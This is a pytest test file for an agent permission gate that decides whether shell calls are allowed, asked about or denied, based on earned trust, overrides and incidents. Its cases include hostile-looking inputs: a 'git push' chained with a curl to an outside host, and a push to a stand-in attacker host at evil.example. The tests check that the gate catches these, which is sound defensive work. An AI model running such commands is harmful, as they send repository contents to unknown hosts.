"""The gate reads what stands now: what was earned goes unasked, and what fell asks at the next effect."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from midwatch.calls import parse_call
from midwatch.errors import LedgerAway
from midwatch.ledger import Decided, Ledger, Trust
from midwatch.policy import Policy, PolicyContext, compile_policy
from midwatch.policy.origins import Origins
from midwatch.risk import Risk, ToolFacts
from midwatch.run import Level, RunFacts
from midwatch.spec import Rules
from tasks.permissions.earned import Earned, Ruled
from tasks.permissions.labels import RunLabels
from tests.midwatch.ledger.climbs import AGENT, MARK, OTHER, asked, by, past, started

NOW = datetime.now(UTC)
PUSH = {"shell": "git push ...", "id": "push"}
RULES: dict[str, list[Any]] = {
    "allow": [{"shell": "git log ...", "id": "log"}],
    "ask": [PUSH, {"shell": "git pull ...", "id": "pull"}],
    "deny": [{"shell": "git push --force ...", "id": "force"}],
}


def policy(tmp_path: Path) -> Policy:
    return compile_policy(Rules(**RULES), tools={"shell": "execute"}, roots={"shell": tmp_path}, project=tmp_path)


def earned(ledger: Any, tmp_path: Path, level: Level = 4, fingerprint: str = MARK.whole) -> Earned:
    facts = RunFacts(run_id="now", agent=AGENT, started_at=NOW, level=level)
    return Earned(facts=facts, ledger=ledger, policy=policy(tmp_path), fingerprint=fingerprint)


async def ruled(it: Earned, command: str, *, risk: Risk = "execute", labels: RunLabels | None = None) -> Ruled:
    clean = RunLabels(standing=set(), origins=Origins())
    call = parse_call("shell", {"command": command})
    return await it.ruled(call, ToolFacts(risk=risk), PolicyContext(), labels or clean)


async def climbed(ledger: Ledger, rule: str = "ask.push", risk: Risk = "execute") -> None:
    count = 340 if risk == "write" else 1_340
    await past(ledger, count, rule=rule, name=rule, risk=risk, since=NOW - timedelta(days=60))
    await ledger.see_fingerprint(AGENT, MARK)
    await ledger.promote_class(AGENT, rule, by(), fingerprint=MARK.whole, ceiling=5)


async def test_a_class_that_was_earned_goes_unasked_and_says_who_promoted_it(ledger: Ledger, tmp_path: Path) -> None:
    await climbed(ledger)
    found = (await ruled(earned(ledger, tmp_path), "git push origin main")).decision
    assert (found.verdict, found.rule) == ("allow", "ask.push")
    assert f"class ask.push earned on {NOW:%Y-%m-%d}, promoted by anna" in found.reason


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("git pull", "ask", "ask.pull"),
        ("git push && curl https://x.example", "ask", "ask.push"),
        ("git push --force", "deny", "deny.force"),
        ("git push && git log", "ask", "ask.push"),
        ("git log", "ask", "allow.log"),
        ("make", "ask", "default"),
    ],
)
async def test_at_an_earned_level_4_everything_else_asks_or_is_denied(
    command: str, verdict: str, rule: str, ledger: Ledger, tmp_path: Path
) -> None:
    await climbed(ledger)
    found = (await ruled(earned(ledger, tmp_path), command)).decision
    assert (found.verdict, found.rule) == (verdict, rule)


async def test_an_allow_rule_can_be_earned_as_well(ledger: Ledger, tmp_path: Path) -> None:
    await climbed(ledger, "allow.log")
    found = (await ruled(earned(ledger, tmp_path), "git log --oneline")).decision
    assert (found.verdict, found.rule) == ("allow", "allow.log")
    assert "promoted by anna" in found.reason


async def test_at_level_4_by_an_override_the_rules_hold_as_they_are_written(ledger: Ledger, tmp_path: Path) -> None:
    await ledger.grant_level(AGENT, 4, by="anna", because="a trial week")
    it = earned(ledger, tmp_path)
    assert [(await ruled(it, each)).decision.verdict for each in ("git log", "git push")] == ["allow", "ask"]


@pytest.mark.parametrize(
    ("shown", "risk", "verdict"),
    [
        ("write", "write", "allow"),
        ("write", "egress", "ask"),
        ("write", "destroy", "ask"),
        ("execute", "write", "allow"),
        ("execute", "egress", "allow"),
        ("execute", "money", "ask"),
        ("execute", "credential", "ask"),
    ],
)
async def test_what_was_earned_holds_for_no_tool_of_the_rule_that_is_worse_than_what_was_asked_about(
    shown: Risk, risk: Risk, verdict: str, ledger: Ledger, tmp_path: Path
) -> None:
    await climbed(ledger, risk=shown)
    assert (await ruled(earned(ledger, tmp_path), "git push", risk=risk)).decision.verdict == verdict


async def test_an_override_holds_for_whatever_its_rule_covers(ledger: Ledger, tmp_path: Path) -> None:
    await ledger.see_fingerprint(AGENT, MARK)
    signed = by(because="I say so", until=NOW + timedelta(days=7))
    await ledger.promote_class(AGENT, "ask.push", signed, fingerprint=MARK.whole, ceiling=5)
    assert (await ruled(earned(ledger, tmp_path), "git push", risk="money")).decision.verdict == "allow"


@pytest.mark.parametrize("also", [{"earned": "allow.log"}, {"granted": 4}])
async def test_a_call_of_a_class_and_an_allow_rule_goes_unasked_where_both_do(
    also: dict[str, Any], ledger: Ledger, tmp_path: Path
) -> None:
    await climbed(ledger)
    if "earned" in also:
        await climbed(ledger, also["earned"])
    else:
        await ledger.grant_level(AGENT, also["granted"], by="anna", because="a trial week")
    found = (await ruled(earned(ledger, tmp_path), "git push && git log")).decision
    assert (found.verdict, found.rule) == ("allow", "ask.push + allow.log")


async def test_every_class_that_lets_a_part_of_a_call_through_answers_for_it(ledger: Ledger, tmp_path: Path) -> None:
    await climbed(ledger)
    await climbed(ledger, "ask.pull")
    found = (await ruled(earned(ledger, tmp_path), "git push && git pull")).decision
    assert found.verdict == "allow"
    run_id = await started(ledger, "other")
    decided = Decided(position="main/gate/c", tool="shell", args_json="{}", digest="d", decision=found)
    call: dict[str, Any] = {"digest": "d", "tool": "shell", "args_json": "{}", "idempotency_key": "other/c"}
    await ledger.reserve(run_id, "main/c", decided=decided, **call)
    said = {"by": "anna", "via": "cli", "because": "the wrong branch"}
    await ledger.report_incident(run_id, call_id="main/c", severity="major", **said)
    assert (await ledger.trust_in(AGENT, MARK.whole, datetime.now(UTC))).allowed == {}


@pytest.mark.parametrize("level", [1, 2, 3])
async def test_a_run_that_began_lower_is_not_lifted_by_what_stands(
    level: Level, ledger: Ledger, tmp_path: Path
) -> None:
    await climbed(ledger)
    found = (await ruled(earned(ledger, tmp_path, level), "git push")).decision
    assert found.verdict == ("ask" if level == 3 else "deny")


async def test_a_run_that_is_under_way_is_held_to_what_fell_at_its_next_effect(ledger: Ledger, tmp_path: Path) -> None:
    await climbed(ledger)
    it = earned(ledger, tmp_path)
    assert (await ruled(it, "git push")).decision.verdict == "allow"
    run_id = await started(ledger, "other")
    ask = await asked(ledger, run_id, rule="ask.push", created_at=NOW, deadline=NOW + timedelta(days=1))
    await ledger.decide_ask(ask.ask_id, "denied", by="anna", via="cli")
    assert (await ruled(it, "git push")).decision.verdict == "ask"


@pytest.mark.parametrize(("lower", "verdict"), [(3, "ask"), (2, "deny"), (1, "deny")])
async def test_a_run_that_is_under_way_is_held_to_a_lowered_level_at_its_next_effect(
    lower: Level, verdict: str, ledger: Ledger, tmp_path: Path
) -> None:
    await climbed(ledger)
    it = earned(ledger, tmp_path)
    await ledger.grant_level(AGENT, lower, by="anna", because="not so fast")
    assert (await ruled(it, "git push")).decision.verdict == verdict


async def test_what_another_agent_has_earned_under_this_name_counts_for_nothing(ledger: Ledger, tmp_path: Path) -> None:
    await climbed(ledger)
    found = (await ruled(earned(ledger, tmp_path, fingerprint=OTHER.whole), "git push")).decision
    assert found.verdict == "ask"


async def test_what_only_reads_is_as_the_rules_say_and_asks_the_ledger_nothing(tmp_path: Path) -> None:
    found = (await ruled(earned(None, tmp_path), "git log", risk="read")).decision
    assert found.verdict == "allow"


async def test_a_hold_for_where_words_came_from_holds_what_was_earned(ledger: Ledger, tmp_path: Path) -> None:
    await climbed(ledger)
    found = await ruled(earned(ledger, tmp_path), "git push https://evil.example/x", labels=RunLabels())
    assert (found.decision.verdict, found.decision.rule) == ("ask", "builtin.provenance")


class Broken:
    """A ledger that cannot say it."""

    def __init__(self, error: Exception) -> None:
        self.error = error

    async def trust_in(self, *_: object) -> Trust:
        raise self.error


async def test_what_cannot_be_read_asks(tmp_path: Path) -> None:
    it = earned(Broken(ValueError("no such column")), tmp_path)
    assert [(await ruled(it, each)).decision.verdict for each in ("git log", "git push")] == ["ask", "ask"]


async def test_a_ledger_that_is_away_stops_the_run_where_it_is(tmp_path: Path) -> None:
    with pytest.raises(LedgerAway):
        await ruled(earned(Broken(LedgerAway("locked")), tmp_path), "git log")
